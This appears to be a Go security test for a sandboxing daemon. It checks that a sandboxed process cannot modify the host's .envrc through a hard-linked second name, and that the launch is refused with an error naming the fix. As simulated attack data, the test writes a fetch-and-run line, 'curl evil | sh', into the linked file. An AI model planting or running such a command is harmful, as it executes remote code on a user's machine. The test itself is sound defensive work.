package integrity_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestAttackHardLinkedProtectedFile guards review finding F2: the host's .envrc has a second
// name, payload (a hard link: made by the user, or left by an earlier box). The box writes
// only payload, an ordinary file. Before, the launch ran and the write changed the host's
// .envrc (its staged copy covered the name .envrc, not the inode); now the launch is refused
// with an error naming .envrc and how to break the link, the host's file is unchanged, and
// the daemon admits the next launch once the link is broken.
func TestAttackHardLinkedProtectedFile(t *testing.T) {
	e := newDaemonEnv(t)
	repo(t, e.work)
	envrc := filepath.Join(e.work, ".envrc")
	if err := os.Link(envrc, filepath.Join(e.work, "payload")); err != nil {
		t.Fatal(err)
	}
	_, stderr, code := e.runAll("run", "sh", "--", "-c", `echo 'curl evil | sh' > payload`)
	if b, _ := os.ReadFile(envrc); string(b) != "export A=1\n" {
		t.Errorf("the host's .envrc became %q: the box wrote it through its other name", b)
	}
	if code != 125 || !strings.Contains(stderr, envrc+" has 2 names") ||
		!strings.Contains(stderr, "cp -p "+envrc+" "+envrc+".copy && mv "+envrc+".copy "+envrc) {
		t.Fatalf("launch over a hard-linked .envrc: exit %d, stderr %q: want 125 and an error naming .envrc and the fix", code, stderr)
	}
	t.Logf("refused: %s", stderr)
	// The fix the error gives: the next launch runs, and its writes to payload stay in payload.
	if out, err := runSh(e.work, "cp -p .envrc .envrc.copy && mv .envrc.copy .envrc"); err != nil {
		t.Fatalf("the error's fix: %v: %s", err, out)
	}
	if _, stderr, code := e.runAll("run", "sh", "--", "-c", `echo 'curl evil | sh' > payload`); code != 0 {
		t.Fatalf("launch after the link was broken: exit %d: %s", code, stderr)
	}
	if b, _ := os.ReadFile(envrc); string(b) != "export A=1\n" {
		t.Errorf("the host's .envrc became %q", b)
	}
}

// runSh runs script with sh in dir, on the host.
func runSh(dir, script string) ([]byte, error) {
	c := exec.Command("sh", "-c", script)
	c.Dir = dir
	return c.CombinedOutput()
}
